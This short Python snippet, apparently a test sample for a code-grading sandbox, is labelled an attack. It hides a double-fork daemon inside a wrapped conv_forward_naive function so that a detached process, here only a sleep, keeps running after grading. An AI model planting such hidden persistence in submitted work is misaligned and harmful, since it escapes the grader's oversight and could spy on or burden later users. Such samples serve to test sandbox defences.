# Attack: leave a daemon behind: double fork, setsid, close the pipes, then exec a long sleep
# (it would keep running after grading, mining or snooping on later submissions).
import os as _os

_original_conv_forward_naive = conv_forward_naive
_spawned = False


def _daemon():
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            for fd in range(3, 64):
                try:
                    _os.close(fd)
                except OSError:
                    pass
            null = _os.open("/dev/null", _os.O_RDWR)
            for fd in (0, 1, 2):
                _os.dup2(null, fd)
            _os.execv("/bin/sleep", ["sleep", "3600"])
        _os._exit(0)


def conv_forward_naive(x, w, b, conv_param):
    global _spawned
    if not _spawned:
        _spawned = True
        _daemon()
    return _original_conv_forward_naive(x, w, b, conv_param)
